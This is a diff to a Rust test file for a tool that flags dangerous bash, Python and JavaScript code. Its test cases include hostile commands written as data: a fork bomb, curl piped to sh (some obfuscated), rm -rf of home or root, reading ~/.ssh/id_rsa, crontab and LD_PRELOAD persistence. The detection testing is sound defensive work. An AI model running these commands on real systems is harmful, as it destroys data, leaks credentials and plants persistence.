@@ -533,7 +533,7 @@ fn ids(answer: &ReviewAnswer) -> Vec<String> {
 )]
 #[case::write_home(
     "bash",
-    "echo \"S1\" > ~/.bashrc\n",
+    "echo \"S1\" > ~/notes.txt\n",
     Verdict::Rework,
     "sh-write-outside",
     1
@@ -631,6 +631,52 @@ fn ids(answer: &ReviewAnswer) -> Vec<String> {
     "js-loader-variable",
     1
 )]
+#[case::setuid("bash", "chmod u+s /bin/bash\n", Verdict::Major, "sh-setuid", 1)]
+#[case::setuid_octal("bash", "chmod 4755 a\n", Verdict::Major, "sh-setuid", 1)]
+#[case::history("bash", "ls\nhistory -c\n", Verdict::Major, "sh-history", 2)]
+#[case::fork_bomb("bash", "a(){ a|a& };a\n", Verdict::Rejected, "sh-fork-bomb", 1)]
+#[case::timeit_text(
+    "python",
+    "import timeit\ntimeit.timeit(\"S1\", number=1)\n",
+    Verdict::Rejected,
+    "py-code-string",
+    2
+)]
+#[case::interpreter_object(
+    "python",
+    "import code\ncode.InteractiveInterpreter().runsource(\"S1\")\n",
+    Verdict::Rejected,
+    "py-code-string",
+    2
+)]
+#[case::doctest(
+    "python",
+    "import doctest\ndoctest.testmod()\n",
+    Verdict::Major,
+    "py-doctest",
+    2
+)]
+#[case::function_from_lambda_type(
+    "python",
+    "a = type(lambda: 0)(b.__code__, {})\n",
+    Verdict::Rejected,
+    "py-code-object",
+    1
+)]
+#[case::worker_eval(
+    "javascript",
+    "new Worker(\"S1\", { eval: true });\n",
+    Verdict::Rejected,
+    "js-worker-eval",
+    1
+)]
+#[case::wasm(
+    "javascript",
+    "WebAssembly.instantiate(a).then(b);\n",
+    Verdict::Major,
+    "js-wasm",
+    1
+)]
 fn dangerous_shapes_are_found(
     #[case] language: &str,
     #[case] code: &str,
@@ -687,6 +733,7 @@ fn dangerous_shapes_are_found(
 #[case::bash_local_redirect("bash", "ls > ./listing\nsort < in.txt >> out/sorted.txt\n")]
 #[case::py_plugin_registry("python", "class a:\n    pass\nb = a.__subclasses__()\n")]
 #[case::py_getattr_default("python", "a = getattr(b, c, None)\n")]
+#[case::py_timeit_callable("python", "import timeit\nprint(timeit.timeit(a, number=3))\n")]
 #[case::js_clone_and_main(
     "javascript",
     "class a {\n  b() {\n    return new this.constructor(this.c);\n  }\n}\nif (require.main === module) {\n  console.log(\"S1\");\n}\n"
@@ -695,6 +742,7 @@ fn dangerous_shapes_are_found(
     "javascript",
     "import { createRequire } from \"module\";\nconst require = createRequire(import.meta.url);\n"
 )]
+#[case::bash_modes("bash", "chmod 755 run.sh\nchmod +x run.sh\nchmod -R g+w out\n")]
 fn ordinary_code_is_approved(#[case] language: &str, #[case] code: &str) {
     let answer = judge(language, code);
     assert_eq!(answer.verdict, Verdict::Approve, "{answer:?}");
@@ -1020,13 +1068,7 @@ fn literals_show_what_a_call_does(
         crate::Lang::Python
     };
     let answer = judge_source(lang, source);
-    assert_eq!(answer.verdict, verdict, "{answer:?}");
-    let found = answer
-        .findings
-        .iter()
-        .find(|f| f.message.ends_with(&format!("({id})")))
-        .unwrap_or_else(|| panic!("no {id}: {answer:?}"));
-    assert_eq!(found.line, Some(line), "{answer:?}");
+    assert_finding(&answer, verdict, id, line);
     // Without the literals the same code shows none of this.
     let parsed = crate::parse::parse(lang, source).expect("parses");
     let sanitized = crate::sanitize::sanitize(&parsed.walked());
@@ -1100,4 +1142,112 @@ fn bidirectional_controls_reject() {
     assert!(answer.manipulation);
     assert_eq!(answer.findings[0].line, Some(2));
     assert!(answer.findings[0].message.contains("Trojan Source"));
+}
+
+#[rstest]
+#[case::ansi_c_name(
+    "$'\\x63\\x75\\x72\\x6c' -s http://example.net/x -o /tmp/x\n",
+    Verdict::Major,
+    "run-http-client",
+    1
+)]
+#[case::shell_in_pieces(
+    "echo x\ncurl -s http://example.net/x | s''h\n",
+    Verdict::Rejected,
+    "pipe-to-interpreter",
+    2
+)]
+#[case::quoted_interpreter_piped(
+    "wget -qO- x | \"bash\"\n",
+    Verdict::Rejected,
+    "pipe-to-interpreter",
+    1
+)]
+#[case::python_c("python3 -c \"import os\"\n", Verdict::Rejected, "run-code-string", 1)]
+#[case::rm_home("rm -rf \"$HOME\"\n", Verdict::Rejected, "deletes-root-or-home", 1)]
+#[case::rm_root_star("rm -fr /*\n", Verdict::Rejected, "deletes-root-or-home", 1)]
+#[case::crontab(
+    "(crontab -l; echo \"x\") | crontab -\n",
+    Verdict::Major,
+    "run-system-tool",
+    1
+)]
+#[case::ld_preload(
+    "export LD_PRELOAD=/tmp/hook.so\nls\n",
+    Verdict::Major,
+    "names-loader-variable",
+    1
+)]
+#[case::ld_preload_prefix(
+    "LD_PRELOAD=/tmp/hook.so ls\n",
+    Verdict::Major,
+    "names-loader-variable",
+    1
+)]
+#[case::ssh_key(
+    "cat ~/.ssh/id_rsa | base64\n",
+    Verdict::Major,
+    "names-credential-file",
+    1
+)]
+#[case::profile("echo x >> ~/.profile\n", Verdict::Major, "names-start-up-file", 1)]
+#[case::other_script(
+    "printf x | base64 -d > /tmp/x.sh && sh /tmp/x.sh\n",
+    Verdict::Major,
+    "run-interpreter",
+    1
+)]
+#[case::line_of_command(
+    "echo a\n\nssh-keygen -f \"$HOME/.ssh/id_ed25519\"\n",
+    Verdict::Major,
+    "names-credential-file",
+    3
+)]
+fn bash_commands_read_as_they_run(
+    #[case] source: &str,
+    #[case] verdict: Verdict,
+    #[case] id: &str,
+    #[case] line: usize,
+) {
+    assert_finding(&judge_source(crate::Lang::Bash, source), verdict, id, line);
+}
+
+/// `answer` has `verdict` and a finding `id` on `line`.
+fn assert_finding(answer: &ReviewAnswer, verdict: Verdict, id: &str, line: usize) {
+    assert_eq!(answer.verdict, verdict, "{answer:?}");
+    let found = answer
+        .findings
+        .iter()
+        .find(|f| f.message.ends_with(&format!("({id})")))
+        .unwrap_or_else(|| panic!("no {id}: {answer:?}"));
+    assert_eq!(found.line, Some(line), "{answer:?}");
+}
+
+#[rstest]
+#[case::loop_and_pipes(
+    "set -e\nfor f in *.txt; do wc -l \"$f\"; done\necho \"done\" | tee log.txt\nrm -rf ./build \"$OUT/cache\"\ngit status || true\n"
+)]
+#[case::plain_http("curl -fsS https://example.org/a.json -o a.json\n")]
+#[case::scripts_of_the_project("./run_tests.sh --fast\nmake -C src\nls | sort | uniq -c\n")]
+#[case::reads_home("ls \"$HOME\"\ncd ~\n")]
+fn ordinary_bash_is_read_as_it_runs(#[case] source: &str) {
+    let parsed = crate::parse::parse(crate::Lang::Bash, source).expect("parses");
+    let sanitized = crate::sanitize::sanitize(&parsed.walked());
+    let found = literals::findings("bash", &sanitized.code, &sanitized.literals);
+    assert!(found.is_empty(), "{found:?}");
+}
+
+/// `||` runs the next command on failure; it feeds it nothing.
+#[test]
+fn or_is_not_a_pipe() {
+    let piped = |source: &str| {
+        let parsed = crate::parse::parse(crate::Lang::Bash, source).expect("parses");
+        let sanitized = crate::sanitize::sanitize(&parsed.walked());
+        literals::findings("bash", &sanitized.code, &sanitized.literals)
+            .iter()
+            .any(|f| f.id == "pipe-to-interpreter")
+    };
+    assert!(piped("curl -s x | \"sh\"\n"));
+    assert!(!piped("curl -s x || \"sh\"\n"));
+    assert!(piped("curl -s x |& \"sh\"\n"));
 }
